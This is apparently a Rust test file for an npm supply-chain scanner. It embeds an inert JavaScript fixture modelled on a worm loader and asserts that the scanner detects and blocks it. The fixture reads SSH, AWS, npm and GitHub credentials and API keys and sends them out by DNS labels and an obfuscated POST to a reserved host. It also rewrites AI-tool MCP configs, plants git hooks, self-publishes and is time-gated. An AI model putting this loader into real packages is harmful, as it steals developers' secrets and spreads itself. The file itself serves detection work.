//! The shape of the SANDWORM_MODE loader, inert: every function that would do something is never called, every host is a
//! reserved one, and every home is a made-up folder.

use stockade_content::{Action, Class, Kind, Outside, Rule, diff};

use super::{facts, values};

const CLEAN: &str = "export function greet(name) { return `hello ${name}`; }";

const LOADER: &str = r##"
import fs from "node:fs";
import os from "node:os";
import dns from "node:dns";
import path from "node:path";
import { execSync } from "node:child_process";
import { createRequire } from "node:module";

const home = process.env.FAKE_HOME || os.homedir();
const HOUR = 60 * 60 * 1000;

function never() {
  const secrets = [".npmrc", ".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml"].map((name) => {
    try { return fs.readFileSync(path.join(home, name), "utf8"); } catch { return ""; }
  });
  const { NPM_TOKEN, GITHUB_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN } = process.env;
  const keys = [process.env.OPENAI_API_KEY, process.env["ANTHROPIC_" + "API_KEY"], process.env.AWS_SECRET_ACCESS_KEY];
  const body = Buffer.from(JSON.stringify({ secrets, keys, NPM_TOKEN, GITHUB_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN })).toString("hex");
  for (const label of body.match(/.{1,60}/g)) dns.resolveTxt(`${label}.drop.invalid`, () => {});
  fetch(atob("aHR0cHM6Ly9kcm9wLmludmFsaWQvYQ=="), { method: "POST", body });

  for (const file of [".cursor/mcp.json", ".claude.json", "Library/Application Support/Claude/claude_desktop_config.json", ".codeium/windsurf/mcp_config.json"]) {
    const target = path.join(home, file);
    fs.writeFileSync(target, JSON.stringify({ mcpServers: { helper: { command: "node", args: ["server.js"] } } }));
  }
  execSync("git config --global init.templateDir " + path.join(home, ".git-templates"));
  fs.writeFileSync(path.join(home, ".git-templates/hooks/post-checkout"), "#!/bin/sh\n", { mode: 0o755 });
  fs.writeFileSync(".github/workflows/build.yml", "on: push");

  const manifest = JSON.parse(fs.readFileSync("package.json", "utf8"));
  manifest.version = "0.0.0";
  fs.writeFileSync("package.json", JSON.stringify(manifest));
  execSync("npm publish --access public");
  createRequire(import.meta.url)(secrets[0]);
  new Function(body)();
}
if (process.env.NOBODY_SETS_THIS) setTimeout(never, 48 * HOUR + Math.random() * 48 * HOUR), setTimeout(never, 72 * HOUR);
"##;

#[test]
fn every_part_of_the_loader_is_a_fact() {
    let manifest = r#"{"name": "format-dates", "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}}"#;
    let found = facts(Kind::NpmTarball, &[("package.json", manifest), ("setup.js", LOADER)]);
    for (class, expected) in [
        (Class::Exec, &["child_process", "child_process.execSync"][..]),
        (Class::Dns, &["dns", "dns.resolveTxt"]),
        (Class::DnsLabel, &["dns.resolveTxt"]),
        (Class::Host, &["drop.invalid"]),
        (Class::DynamicCode, &["Function"]),
        (Class::DynamicImport, &["require"]),
        (Class::SensitivePath, &["aws", "gh", "npmrc", "ssh", "ssh-key"]),
        (Class::ClientConfigWrite, &["claude-code", "claude-desktop", "cursor", "windsurf", "windsurf-folder"]),
        (Class::GitHook, &["hooks-folder", "template-folder"]),
        (Class::CiFile, &["github"]),
        (Class::SelfPublish, &["npm"]),
        (Class::TimeGate, &["waits 259200 s"]),
        (Class::InstallScript, &["postinstall: node setup.js"]),
    ] {
        let values = values(&found, class);
        for value in expected {
            assert!(values.contains(value), "{class:?}: {value} is not in {values:?}");
        }
    }
    let families: std::collections::BTreeSet<_> =
        found.values(Class::Environment).filter_map(|(name, _)| stockade_content::secret_family(name)).collect();
    assert!(families.len() >= 4, "{families:?}");
}

#[test]
fn the_update_that_brings_it_is_refused() {
    let manifest = r#"{"name": "format-dates", "version": "1.0.0"}"#;
    let infected = r#"{"name": "format-dates", "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}}"#;
    let old = facts(Kind::NpmTarball, &[("package.json", manifest), ("index.js", CLEAN)]);
    let new = facts(Kind::NpmTarball, &[("package.json", infected), ("index.js", CLEAN), ("setup.js", LOADER)]);
    let found = diff(&old, &new, &Outside { is_patch: true, ..Outside::default() });
    for rule in [
        Rule::Capability,
        Rule::DynamicCode,
        Rule::InstallScript,
        Rule::Host,
        Rule::SensitivePath,
        Rule::Environment,
        Rule::Behaviour,
    ] {
        assert!(found.iter().any(|change| change.rule == rule), "{rule:?}");
    }
    let blocked: Vec<_> =
        found.iter().filter(|change| change.action(true) == Action::Block).filter_map(|change| change.class).collect();
    for class in [Class::Exec, Class::Dns, Class::InstallScript, Class::ClientConfigWrite] {
        assert!(blocked.contains(&class), "{class:?} is not in {blocked:?}");
    }
}
